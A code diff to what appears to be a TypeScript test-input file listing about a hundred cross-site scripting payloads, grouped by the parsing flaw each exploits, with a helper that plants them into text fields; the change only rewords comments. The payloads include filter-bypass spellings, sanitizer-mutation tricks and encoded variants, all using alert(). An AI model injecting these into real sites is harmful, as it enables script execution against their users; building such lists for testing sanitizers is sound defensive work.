@@ -1,4 +1,6 @@
-/** What runs where a page takes it for its own markup, code or address: a hundred ways, by the mistake that each of them waits for. */
+/**
+ * A hundred texts that run if a page mistakes them for its own markup, code or address, grouped by the mistake that they exploit.
+ */
 const elements = [
   '"><img src=x onerror=alert(1)>',
   '<script>alert(1)</script>',
@@ -12,7 +14,7 @@ const elements = [
   '<math><mtext></p><style><img src=x onerror=alert(1)>',
 ] as const;
 
-/** Elements that run something as soon as they stand in a page, in spellings that filters have let through. */
+/** Elements that run code as soon as they are in a page, in spellings that filters have let through. */
 const handlers = [
   '<IMG SRC=x ONERROR=alert(2)>',
   '<img/src=x/onerror=alert(3)>',
@@ -48,7 +50,7 @@ const handlers = [
   '<div popover id=pp onbeforetoggle=alert(33)></div>',
 ] as const;
 
-/** Scripts that do not look like any. */
+/** Scripts that do not look like scripts. */
 const scripts = [
   '<ScRiPt>alert(34)</sCrIpT>',
   '<script src=data:,alert(35)></script>',
@@ -74,7 +76,7 @@ const scripts = [
   '<svg><foreignObject><img src=x onerror=alert(55)></foreignObject></svg>',
 ] as const;
 
-/** What a cleaner makes harmful by mending it: nesting that its parser and the page's see differently. */
+/** Texts that a sanitizer makes harmful by repairing them: its parser and the page's read the nesting differently. */
 const mutations = [
   '<svg></p><style><a id="</style><img src=x onerror=alert(56)>">',
   '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(57)>">',
@@ -92,7 +94,7 @@ const mutations = [
   '<?xml version="1.0"?><img src=x onerror=alert(69)>',
 ] as const;
 
-/** The same behind an encoding that is undone too late. */
+/** Payloads in an encoding that is undone too late. */
 const encodings = [
   '&lt;img src=x onerror=alert(70)&gt;',
   '&#60;img src=x onerror=alert(71)&#62;',
@@ -110,7 +112,7 @@ const encodings = [
   '‹img src=x onerror=alert(83)›',
 ] as const;
 
-/** Addresses and code that begin where a text ends. */
+/** Addresses and code that become active at the end of a text. */
 const others = [
   'JaVaScRiPt:alert(84)',
   'data:text/html,<script>alert(85)</script>',
@@ -141,7 +143,10 @@ export const payloads: readonly string[] = [
 ];
 
 let next = 0;
-/** As many payloads in one text as fit; those that the text before had no room for come first, so that fields together hold all. */
+/**
+ * Returns a text with as many payloads as fit; it continues where the last one ended, so that several fields together contain
+ * all.
+ */
 export function planted(length: number): string {
   let text = payloads[next % payloads.length] ?? '';
   for (let taken = 1; taken < payloads.length; taken++) {
